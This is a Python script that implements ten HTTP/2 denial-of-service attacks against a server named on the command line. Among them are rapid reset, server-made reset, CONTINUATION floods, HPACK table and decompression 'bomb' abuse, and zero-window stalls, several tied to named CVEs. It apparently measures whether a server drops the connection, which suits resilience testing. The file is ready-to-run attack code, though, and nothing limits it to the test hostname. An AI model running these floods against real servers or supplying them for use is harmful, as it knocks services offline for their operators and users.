"""One of several attacks on HTTP/2 at argv[2]:443, over and over, until the server ends the connection
or argv[3] frames were sent. Prints how it ended."""
import socket
import ssl
import struct
import sys

import hpack

attack, address, count = sys.argv[1], sys.argv[2], int(sys.argv[3])
NAME = "app.example.test"
context = ssl._create_unverified_context()
context.set_alpn_protocols(["h2"])
raw = socket.create_connection((address, 443), timeout=60)
stream = context.wrap_socket(raw, server_hostname=NAME)


def frame(kind, flags, number, payload=b""):
    return struct.pack("!I", len(payload))[1:] + struct.pack("!BBI", kind, flags, number) + payload


DATA, HEADERS, RST, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS = 1, 4
PSEUDO = [(":method", "GET"), (":scheme", "https"), (":authority", NAME)]


def section(path, *fields):
    # Encoders remember what they have encoded; one that forgets says every word each time.
    return hpack.Encoder().encode(PSEUDO + [(":path", path), *fields])


def frames():
    if attack == "reset":
        # Rapid reset (CVE-2023-44487).
        request = section("/bytes/24")
        for number in range(1, 2 * count, 2):
            yield frame(HEADERS, END_STREAM | END_HEADERS, number, request)
            yield frame(RST, 0, number, struct.pack("!I", 8))
    elif attack == "made-to-reset":
        # The server is made to reset streams itself (CVE-2025-8671): an increment of 0 is an error.
        request = section("/bytes/24")
        for number in range(1, 2 * count, 2):
            yield frame(HEADERS, END_HEADERS, number, request)
            yield frame(WINDOW_UPDATE, 0, number, struct.pack("!I", 0))
    elif attack == "continuation":
        # CVE-2024-27316: a header section without an end.
        yield frame(HEADERS, END_STREAM, 1, section("/bytes/24"))
        field = b"\x00\x04name" + b"\x7f\x81\x1f" + b"v" * 4096
        for _ in range(count):
            yield frame(CONTINUATION, 0, 1, field[:4000])
    elif attack == "empty-continuation":
        yield frame(HEADERS, END_STREAM, 1, section("/bytes/24"))
        for _ in range(count):
            yield frame(CONTINUATION, 0, 1)
    elif attack == "settings":
        for _ in range(count):
            yield frame(SETTINGS, 0, 0, struct.pack("!HI", 4, 65535))
    elif attack == "ping":
        for _ in range(count):
            yield frame(PING, 0, 0, b"12345678")
    elif attack == "table":
        # A dynamic table as large as it goes, filled anew with every request.
        encoder = hpack.Encoder()
        for number in range(count):
            fields = PSEUDO + [(":path", "/bytes/24"), (f"x-{number}", "v" * 4000)]
            yield frame(HEADERS, END_STREAM | END_HEADERS, 2 * number + 1, encoder.encode(fields))
    elif attack == "bomb":
        # One large entry of the table, named a thousand times a request: little to send, much to hold.
        encoder = hpack.Encoder()
        first = encoder.encode(PSEUDO + [(":path", "/bytes/24"), ("x-large", "v" * 3800)])
        yield frame(HEADERS, END_STREAM | END_HEADERS, 1, first)
        # 62 is the newest entry of the dynamic table (RFC 7541 2.3.3).
        again = encoder.encode(PSEUDO + [(":path", "/bytes/24")]) + b"\xbe" * 1000
        for number in range(1, count):
            yield frame(HEADERS, END_STREAM | END_HEADERS, 2 * number + 1, again)
    elif attack == "empty-data":
        yield frame(HEADERS, END_HEADERS, 1, section("/mirror"))
        for _ in range(count):
            yield frame(DATA, 0, 1)
    elif attack == "no-window":
        # Large responses of which nothing may be sent.
        yield frame(SETTINGS, 0, 0, struct.pack("!HI", 4, 0))
        for number in range(1, 2 * min(count, 100), 2):
            yield frame(HEADERS, END_STREAM | END_HEADERS, number, section("/bytes/10000000"))


def refused():
    """Whether the server ended the connection with an error, for the attacks that it ends."""
    if attack in ("settings", "ping", "table", "bomb", "empty-data"):
        return False
    said = b""
    while more := stream.recv(65536):
        said += more
    while len(said) >= 9:
        length = int.from_bytes(said[:3], "big")
        if said[3] == GOAWAY:
            return said[13:17] != bytes(4)
        said = said[9 + length:]
    return False


# Nothing that the server sends is read before everything was sent.
sent, batch = 0, b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0)
try:
    for one in frames():
        batch += one
        sent += 1
        if len(batch) > 16384:
            stream.sendall(batch)
            batch = b""
    stream.sendall(batch)
    print("cut off" if refused() else "sent all", sent)
except TimeoutError:
    print("held back after", sent)
except OSError as error:
    print("cut off after", sent, error)
